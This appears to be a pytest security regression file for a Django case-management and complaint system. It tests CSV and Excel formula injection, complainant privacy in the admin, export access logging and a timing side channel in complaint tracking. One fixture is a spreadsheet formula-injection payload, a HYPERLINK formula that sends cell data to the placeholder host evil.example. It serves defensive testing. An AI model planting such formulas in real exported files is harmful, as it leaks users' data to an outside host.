"""The second outside probe (docs/adr/0047): what the first (0042) did not try.

Each test is an attack the probe made that worked, replayed through the paths an outsider
or a curious insider uses (the public downloads, the Django admin, the workbench exports,
the JSON API); each fails on the tree before its fix.
"""

import csv
import io
import logging
from datetime import date

import pytest
from cases.factories import make_case
from django.contrib.auth.hashers import MD5PasswordHasher
from openpyxl import load_workbook

from sanxiang.catalog import actions as catalog_actions
from sanxiang.catalog.models import Catalogue
from sanxiang.supervision import actions as supervision_actions

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def _items_with_a_formula(body):
    catalogue = catalog_actions.get_or_create_catalogue(body=body, kind=Catalogue.Kind.ITEMS,
                                                        acting_user=None)
    catalog_actions.publish_version(
        catalogue=catalogue, acting_user=None, effective_from=date(2026, 1, 1), note="@SUM(1)",
        add=[{"category": "行政处罚", "code": "AQ-CF-001", "name": FORMULA,
              "legal_bases": "《中华人民共和国安全生产法》第九十七条", "unit": "-执法大队",
              "time_limit": "+90日", "time_limit_days": 90, "field": "AQSC"}])
    return catalogue


def test_public_list_downloads_never_hand_out_a_formula_R_PUB_01(client, body_a, fields):
    """Anyone downloads a body's lists; what staff typed into them must open as text in
    Excel, never run as a formula (OWASP CSV injection) — and import back unchanged."""
    from sanxiang.catalog import spreadsheets

    catalogue = _items_with_a_formula(body_a)
    base = f"/catalogues/items/{body_a.credit_code}/export"
    book = load_workbook(io.BytesIO(client.get(f"{base}.xlsx").getvalue()))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert any(cell.value == FORMULA for cell in cells)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    response = client.get(f"{base}.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    texts = [value for row in rows[1:] for value in row]
    assert "'" + FORMULA in texts and "'-执法大队" in texts
    assert not [value for value in texts if value[:1] in "=+-@"]
    for data in (response.content, client.get(f"{base}.xlsx").getvalue()):
        report = spreadsheets.import_file(catalogue, data, acting_user=None,
                                          effective_from=date(2026, 2, 1), note="导入")
        assert report.ok and report.changed == [] and report.added == [], report.lines()


def test_admin_shows_the_complainant_only_to_the_handling_office_R_SUP_02(
        admin_user, supervisor_user, body_a, client_for):
    complaint, _code = supervision_actions.file_complaint(
        body=body_a, kind="complaint", conduct="执法人员态度恶劣，未出示证件。", anonymous=False,
        name="举报人甲乙", phone="13912345678", address="滹阳县幸福路8号")
    page = client_for(admin_user).get(f"/admin/supervision/complaint/{complaint.pk}/change/")
    assert page.status_code == 200
    text = page.content.decode()
    for identity in ("举报人甲乙", "13912345678", "幸福路8号"):
        assert identity not in text
    assert supervision_actions.may_see_identity(supervisor_user, complaint)
    handler = client_for(supervisor_user).get(f"/workbench/supervision/complaints/"
                                              f"{complaint.pk}/")
    assert "举报人甲乙" in handler.content.decode()


def _access_lines(caplog):
    return [r for r in caplog.records if r.name == "sanxiang.access"]


def test_case_list_export_is_logged_R_REC_06(officer_user_a, officer_a1, officer_a2, body_a,
                                             client_for, caplog):
    make_case(body_a, [officer_a1, officer_a2], acting_user=officer_user_a)
    with caplog.at_level(logging.INFO, logger="sanxiang.access"):
        response = client_for(officer_user_a).get("/workbench/cases/export.xlsx")
    assert response.status_code == 200
    [line] = _access_lines(caplog)
    assert line.access_action == "export" and line.access_user_id == officer_user_a.pk


@pytest.mark.parametrize("kind", ["cases", "complaints", "documents", "outcomes",
                                  "evaluations"])
def test_supervision_exports_are_logged_R_REC_06(kind, supervisor_user, client_for, caplog):
    with caplog.at_level(logging.INFO, logger="sanxiang.access"):
        response = client_for(supervisor_user).get(f"/workbench/supervision/export/{kind}.xlsx")
    assert response.status_code == 200
    [line] = _access_lines(caplog)
    assert line.access_action == "export" and line.access_user_id == supervisor_user.pk


def test_api_document_read_is_logged_R_REC_06(officer_user_a, officer_a1, officer_a2,
                                              body_a, client_for, caplog):
    from cases.test_documents import DECISION_DATA, ago, at_decision

    from sanxiang.cases.document_actions import issue_document

    case = make_case(body_a, [officer_a1, officer_a2], acting_user=officer_user_a, days_ago=60)
    at_decision(case)
    document = issue_document(acting_user=None, case=case, doc_type="penalty_decision",
                              issued_on=ago(30), data=DECISION_DATA)
    with caplog.at_level(logging.INFO, logger="sanxiang.access"):
        response = client_for(officer_user_a).get(f"/api/cases/documents/{document.pk}")
    assert response.status_code == 200
    [line] = _access_lines(caplog)
    assert line.access_subject_id == str(document.pk)


@pytest.mark.parametrize(("persona", "url"), [
    ("clerk_user_a", "/workbench/disclosure/?format=xlsx"),
    ("reviewer_user_a", "/workbench/review/?format=xlsx"),
    ("supervisor_user", "/workbench/discretion/spread.xlsx"),
])
def test_queue_exports_are_logged_R_REC_06(persona, url, request, client_for, caplog):
    user = request.getfixturevalue(persona)
    with caplog.at_level(logging.INFO, logger="sanxiang.access"):
        response = client_for(user).get(url)
    assert response.status_code == 200
    [line] = _access_lines(caplog)
    assert line.access_action == "export" and line.access_user_id == user.pk


def test_clerk_reading_a_decision_before_masking_is_logged_R_REC_06(
        body_a, officer_a1, officer_a2, clerk_user_a, client_for, caplog):
    from disclosure.test_disclosure import decided, person

    disclosure = decided(body_a, [officer_a1, officer_a2], party=person()).disclosures.get()
    with caplog.at_level(logging.INFO, logger="sanxiang.access"):
        response = client_for(clerk_user_a).get(f"/workbench/disclosure/{disclosure.pk}/")
    assert response.status_code == 200
    [line] = _access_lines(caplog)
    assert line.access_subject_type == "disclosure.disclosure"
    assert line.access_subject_id == str(disclosure.pk)


def test_evidence_page_is_logged_R_REC_06(officer_a1, officer_a2, officer_user_a, client_for,
                                          caplog):
    from records.test_evidence import case_of_a, metadata, store

    evidence = store(officer_user_a, case_of_a([officer_a1, officer_a2], officer_user_a),
                     metadata(officer_a1))
    with caplog.at_level(logging.INFO, logger="sanxiang.access"):
        response = client_for(officer_user_a).get(f"/workbench/records/evidence/{evidence.pk}/")
    assert response.status_code == 200
    [line] = _access_lines(caplog)
    assert line.access_subject_id == str(evidence.pk)


class CountingHasher(MD5PasswordHasher):
    """A real hasher that counts how often it hashes (the work an answer's time shows)."""

    algorithm = "counting_md5"
    calls = 0

    def encode(self, password, salt):
        CountingHasher.calls += 1
        return super().encode(password, salt)


def test_tracking_a_complaint_costs_the_same_for_a_wrong_number_R_SUP_02(body_a, settings):
    """Found by timing the public tracking form: a number that does not exist was answered
    at once, a real number with a wrong code only after hashing — the delay told which
    tracking numbers exist. Now both hash once."""
    settings.PASSWORD_HASHERS = ["security.test_second_probe.CountingHasher"]
    complaint, code = supervision_actions.file_complaint(
        body=body_a, kind="report", conduct="检查时未出示执法证。", anonymous=True)
    work = {}
    for label, number, given in (("wrong code", complaint.number, "AAAAAAAA"),
                                 ("wrong number", "TS20260101000000", "AAAAAAAA"),
                                 ("right", complaint.number, code)):
        before = CountingHasher.calls
        found = supervision_actions.find_complaint(number, given)
        work[label] = CountingHasher.calls - before
        assert (found is not None) == (label == "right")
    assert work["wrong number"] == work["wrong code"] == work["right"] == 1
